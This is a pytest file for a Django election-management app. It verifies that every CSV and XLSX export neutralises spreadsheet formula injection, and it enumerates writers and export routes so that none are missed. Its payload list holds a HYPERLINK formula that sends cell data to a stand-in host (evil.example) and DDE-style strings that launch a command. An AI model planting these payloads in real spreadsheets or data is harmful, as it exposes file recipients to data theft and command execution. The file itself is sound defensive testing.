"""Formula injection (issue 17 item 2): every CSV and XLSX pemilu hands out goes through
``core/exports.py``, which neutralises text starting with = + - @ tab CR and keeps numbers numeric.

Three layers: the writer itself; every export fed the payloads end to end (region, office, stage,
candidate and dapil names, the agency of an anonymous neutrality report, a TPS kind); and two
enumerations that fail when a new export appears unchecked — a grep of ``src`` for CSV/XLSX
writers outside the module, and the URL resolver's ``.csv``/``.xlsx`` routes.
"""

from __future__ import annotations

import csv
import datetime
import io
import re
from collections.abc import Callable, Iterator
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.core.management import call_command
from django.urls import URLPattern, URLResolver, get_resolver

from pemilu.core.exports import FORMULA_START, CsvWriter, Workbook, csv_bytes, safe_cell
from pemilu.testing.factories import Cast
from pemilu.testing.ladder import client_for

SRC = Path(__file__).resolve().parents[2]  # src/pemilu

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Klik")',
    "+HYPERLINK(\"http://evil.example/\")",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


# --- the writer ----------------------------------------------------------------------------

@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_starting_a_formula_gets_a_quote(payload: str) -> None:
    assert safe_cell(payload) == "'" + payload
    assert safe_cell("Padang Hulu") == "Padang Hulu" and safe_cell("a=b") == "a=b"


def test_numbers_dates_and_none_stay_what_they_are() -> None:
    day, moment = datetime.date(2024, 2, 14), datetime.datetime(2024, 2, 14, 7, 0, tzinfo=datetime.UTC)
    for value in (-5, 0, 3.5, -2.25, Decimal("-4.10"), True, day, moment, None):
        assert safe_cell(value) is value
    assert safe_cell(Decimal("1")) == Decimal("1")


def test_xlsx_cells_are_never_formulas_and_numbers_stay_numbers() -> None:
    book = Workbook()
    sheet = book.sheet("Uji")
    sheet.append([*PAYLOADS, "=1+1\x00", "\x01=SUM(1)", -7, Decimal("2.5"), datetime.date(2024, 2, 14)])
    ws = openpyxl.load_workbook(io.BytesIO(book.to_bytes())).active
    assert ws is not None
    cells = list(ws.iter_rows())[0]
    assert all(c.data_type != "f" for c in cells)
    assert [c.value for c in cells[:6]] == ["'" + p.replace("\r", "\n") for p in PAYLOADS]  # XML reads CR as LF
    assert cells[6].value == "'=1+1" and cells[7].value == "'=SUM(1)"  # control characters dropped first
    assert (cells[8].value, cells[8].data_type) == (-7, "n")
    assert (cells[9].value, cells[9].data_type) == (2.5, "n")
    assert cells[10].is_date and cells[10].value.date() == datetime.date(2024, 2, 14)


def test_csv_rows_are_neutralised_and_numbers_written_plainly() -> None:
    out = io.StringIO()
    CsvWriter(out).writerow([PAYLOADS[0], -3, Decimal("1.50"), None, datetime.date(2024, 2, 14)])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'" + PAYLOADS[0], "-3", "1.50", "", "2024-02-14"]
    assert csv_bytes(["a"], [["@x"]]).decode() == "a\r\n'@x\r\n"


# --- every export, end to end --------------------------------------------------------------

def _number(text: str) -> bool:
    return re.fullmatch(r"-?\d+(\.\d+)?", text) is not None


def check_csv(name: str, raw: bytes, payload: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8"))))
    for row in rows:
        for field in row:
            assert not field.startswith(FORMULA_START) or _number(field), f"{name}: live field {field!r}"
    # (a file the CLI reads is stripped of surrounding white space, so a tab or CR may be gone)
    assert any(f.startswith("'") and payload.strip()[:5] in f for row in rows for f in row), \
        f"{name}: the payload did not reach the export"
    return rows


def check_xlsx(name: str, raw: bytes, payload: str) -> list[tuple[Any, ...]]:
    wb = openpyxl.load_workbook(io.BytesIO(raw))
    seen = False
    values: list[tuple[Any, ...]] = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{name}: formula cell {cell.coordinate} {cell.value!r}"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_START), f"{name}: live cell {cell.value!r}"
                    # (XML reads a stored CR back as LF, so the payload is compared without it)
                    seen = seen or (cell.value.startswith("'") and payload.strip()[:5] in cell.value)
            values.append(tuple(c.value for c in row))
    assert seen, f"{name}: the payload did not reach the export"
    return values


@pytest.fixture
def world(cast: Cast, settings: Any, tmp_path: Path, request: pytest.FixtureRequest) -> dict[str, Any]:
    """Tebing Tinggi with the payload in every name people type: regions, a TPS kind, the stage of
    a schedule, a candidate, a secretariat office, an anonymous report's agency."""
    from django.core.cache import cache

    from pemilu.accounts.actions import get_system_user
    from pemilu.adhoc import actions as adhoc
    from pemilu.core.cache import forget_local
    from pemilu.elections.demo import get_or_create_pemilu_2024
    from pemilu.neutrality import actions as neutrality
    from pemilu.neutrality.intake import ReportIn
    from pemilu.neutrality.models import Category
    from pemilu.regions.models import Region, Tps
    from pemilu.results.reference import do_setup_ppwp
    from pemilu.schedule.actions import do_load_builtin_schedule
    from pemilu.schedule.models import Stage
    from pemilu.secretariats import actions as secretariats

    payload: str = request.param
    settings.MEDIA_ROOT = tmp_path / "media"
    cache.clear()
    system = get_system_user()
    for code in ("12.76.01", "12.76.04", "12.76.01.1006", "12.76.01.1007"):
        region = Region.objects.get(code=code)
        region.name = f"{payload} {code}"
        region.save()
    Tps.objects.filter(code="12.76.01.1006.001").update(kind=payload[:10])  # kind is 10 characters at most
    election = do_load_builtin_schedule("pemilu-2024", actor=system).election
    assert election == get_or_create_pemilu_2024()
    Stage.objects.filter(election=election, code="pemungutan-suara").update(name_id=payload)
    contest = do_setup_ppwp(election, actor=system)
    contest.choices[0]["label"] = payload
    contest.save()
    forget_local()  # the bare UPDATEs above send no signal
    formed = secretariats.do_form_secretariats(election, "12.76", actor=cast.kpu_staff_a)
    assert formed.created
    from pemilu.secretariats.models import Secretariat

    sec = Secretariat.objects.get(election=election, region_id="12.76.01")
    secretariats.do_update_office(sec, actor=cast.kpu_staff_a, office_name=payload, address="Jl. Sudirman 1",
                                  phone="0621-21000", email="")
    neutrality.submit_report(ReportIn(
        election=election.code, region_code="12.76.01", category=Category.ASN_NEUTRALITY,
        description="Lurah ikut kampanye terbuka dan memakai atribut partai.",
        event_date=datetime.date(2024, 1, 10), known_on=datetime.date(2024, 1, 11), place="Lapangan",
        suspect_name="Budi", suspect_agency=payload, is_anonymous=True), [],
        received_on=datetime.date(2024, 1, 12))
    rec = adhoc.do_create_recruitment(election, "pps", "12.76", actor=cast.kpu_staff_a)
    return {"payload": payload, "election": election, "contest": contest, "rec": rec, "tmp": tmp_path}


def _get(cast: Cast, who: str | None, url: str) -> bytes:
    r = (client_for(cast, who) if who else client_for(None, None)).get(url)
    assert r.status_code == 200, f"{url}: {r.status_code}"
    return r.content


def _cli(*args: str) -> bytes:
    out = io.StringIO()
    try:
        call_command(*args, stdout=out, stderr=io.StringIO())
    except SystemExit as exc:  # the seats command exits non-zero on an unresolved tie
        assert exc.code in (0, None), exc.code
    return out.getvalue().encode()


def _seats_file(world: dict[str, Any]) -> str:
    path = world["tmp"] / "suara.csv"
    # A dapil name as typed in a votes file (the CLI reads what people give it).
    with path.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows([["dapil_code", "dapil", "seats", "pkb", "pdip"],
                                 ["SU-1", world["payload"], 3, 1000, 2000]])
    return str(path)


# name → (kind, how to produce it, which cast member asks). Every URL route ending in .csv/.xlsx
# and every CSV/XLSX writer must be reachable from here (the enumerations below check).
EXPORTS: dict[str, tuple[str, Callable[[Cast, dict[str, Any]], bytes]]] = {
    "neutrality:statistics_xlsx": ("xlsx", lambda c, w: _get(c, "kpu_staff_a", "/netralitas/statistik.xlsx")),
    "results:d_hasil_xlsx": ("xlsx", lambda c, w: _get(c, "kpu_staff_a", "/hasil/rekap/ppwp/12.76/d-hasil.xlsx")),
    "results:recap_csv": ("csv", lambda c, w: _get(c, "kpu_staff_a", "/hasil/rekap/ppwp/12.76.csv")),
    "results:public_csv": ("csv", lambda c, w: _get(c, None, "/hasil/publik/ppwp/12.76.csv")),
    "secretariats:gaps_xlsx": ("xlsx", lambda c, w: _get(c, "kpu_staff_a",
                                                          "/sekretariat/kekurangan.xlsx?wilayah=12.76")),
    "schedule:export.csv": ("csv", lambda c, w: _get(c, None, f"/jadwal/{w['election'].code}/jadwal.csv")),
    "schedule:export.xlsx": ("xlsx", lambda c, w: _get(c, None, f"/jadwal/{w['election'].code}/jadwal.xlsx")),
    "adhoc:dashboard_xlsx": ("xlsx", lambda c, w: _get(c, "kpu_staff_a", f"/adhoc/{w['rec'].pk}/pendaftar.xlsx")),
    "regions:export_tps": ("csv", lambda c, w: _get(c, "kpu_staff_a", "/wilayah/12.76/tps.csv")),
    "cli:results recap --format csv": ("csv", lambda c, w: _cli("results", "recap", "12.76", "--contest", "ppwp",
                                                               "--format", "csv")),
    "cli:seats allocate --format csv": ("csv", lambda c, w: _cli("seats", "allocate", _seats_file(w),
                                                                "--format", "csv")),
    "seats:decree_xlsx": ("xlsx", lambda c, w: _get(c, None, _decree(c, w))),
}


def _decree(cast: Cast, world: dict[str, Any]) -> str:
    """A published seat decree whose number and member are the payload (rows only: the recap
    behind a real decree is seats/tests' business)."""
    from pemilu.seats.inputs import DapilVotes
    from pemilu.seats.models import Decree, ElectedMember
    from pemilu.seats.tests.factories import make_run

    run = make_run(cast.kpu_admin_a, dapils=[DapilVotes("1276-1", "Tebing Tinggi 1", 3, {"A": 1000, "B": 600})])
    decree = Decree.objects.create(run=run, election=world["election"], contest_kind=run.contest_kind,
                                   region_code="12.76", number=world["payload"][:100],
                                   decided_on=datetime.date(2024, 3, 15), published_by=cast.kpu_admin_a)
    ElectedMember.objects.create(decree=decree, dapil_code="1276-1", dapil_name="Tebing Tinggi 1", party="A",
                                 seat_number=1, rank=1, name=world["payload"], ballot_no=1, votes=10)
    return f"/kursi/penetapan/{decree.pk}/keputusan.xlsx"


@pytest.mark.parametrize("world", PAYLOADS, indirect=True, ids=[f"payload{i}" for i in range(len(PAYLOADS))])
def test_every_export_neutralises_the_payload_and_keeps_numbers(cast: Cast, world: dict[str, Any]) -> None:
    payload = world["payload"]
    tables: dict[str, list[Any]] = {}
    for name, (kind, produce) in EXPORTS.items():
        raw = produce(cast, world)
        tables[name] = check_csv(name, raw, payload) if kind == "csv" else check_xlsx(name, raw, payload)
    # Numbers are still numbers: XLSX counts are numeric cells, CSV counts plain digits.
    stats = tables["neutrality:statistics_xlsx"]
    assert any(isinstance(r[2], int) and r[2] >= 1 for r in stats[1:]), stats
    d_hasil = tables["results:d_hasil_xlsx"]
    # Figures are None ("–") where no form is summed (issue 21), the counters always numbers.
    assert all(v is None or isinstance(v, int) for v in d_hasil[-1][2:]), d_hasil[-1]
    assert all(isinstance(v, int) for v in d_hasil[-1][-3:]), d_hasil[-1]
    gaps = tables["secretariats:gaps_xlsx"]
    assert all(isinstance(v, int) for v in gaps[-1][4:7]), gaps[-1]
    assert any(isinstance(r[4], datetime.datetime) for r in tables["schedule:export.xlsx"][1:])
    dashboard = tables["adhoc:dashboard_xlsx"]
    assert all(isinstance(v, int) for r in dashboard[1:] for v in r[2:6]), dashboard
    for name in ("results:recap_csv", "results:public_csv", "cli:results recap --format csv"):
        header, *body = tables[name]
        expected = header.index("expected")
        assert all(_number(row[expected]) for row in body), (name, body)
    decree_seats = [r for r in tables["seats:decree_xlsx"] if r[:1] == ("1276-1",) and len(r) == 5]
    assert decree_seats and all(isinstance(v, int) for r in decree_seats for v in r[3:5]), decree_seats
    seats = tables["cli:seats allocate --format csv"]
    assert seats[1][4] == "1000" and seats[1][1] == "'" + payload.strip()


# --- enumerations: a new writer or export route cannot slip past ----------------------------

WRITERS = re.compile(r"\bcsv\.(writer|DictWriter)\(|\bfrom csv import\b[^\n]*\b(writer|DictWriter)\b|"
                     r"\bopenpyxl\b|\bxlsxwriter\b|\bdefusedcsv\b|\bWorkbook\(")
READERS_AND_WRITER = {"core/exports.py", "core/tabular.py"}  # tabular reads uploads (load_workbook only)


def _sources() -> Iterator[tuple[str, str]]:
    for path in sorted(SRC.rglob("*.py")):
        rel = path.relative_to(SRC).as_posix()
        if "/tests/" in rel or rel.startswith("testing/"):
            continue
        yield rel, path.read_text(encoding="utf-8")


def test_no_csv_or_xlsx_writer_outside_the_export_module() -> None:
    offenders = []
    for rel, text in _sources():
        for match in WRITERS.finditer(text):
            if rel in READERS_AND_WRITER:
                continue
            if match.group(0) == "Workbook(" and "from pemilu.core.exports import" in text:
                continue
            line = text[:match.start()].count("\n") + 1
            offenders.append(f"{rel}:{line}: {match.group(0)}")
    assert offenders == [], "CSV/XLSX written outside core/exports.py:\n" + "\n".join(offenders)
    tabular = (SRC / "core/tabular.py").read_text(encoding="utf-8")
    assert "Workbook(" not in tabular and "csv.writer" not in tabular


def _routes(resolver: URLResolver, prefix: str = "", namespace: str = "") -> Iterator[tuple[str, str]]:
    for p in resolver.url_patterns:
        if isinstance(p, URLResolver):
            ns = f"{namespace}{p.namespace}:" if p.namespace else namespace
            yield from _routes(p, prefix + str(p.pattern), ns)
        elif isinstance(p, URLPattern):
            yield f"{namespace}{p.name}", prefix + str(p.pattern)


def test_every_csv_and_xlsx_route_is_fed_the_payload() -> None:
    routes = list(_routes(get_resolver()))
    exported = {name for name, route in routes if re.search(r"\.(csv|xlsx)\b|\.<str:fmt>", route)}
    covered = {name.split(".")[0] if name.startswith("schedule:") else name for name in EXPORTS}
    assert exported, routes
    assert exported <= covered, f"export routes without a formula-injection check: {sorted(exported - covered)}"
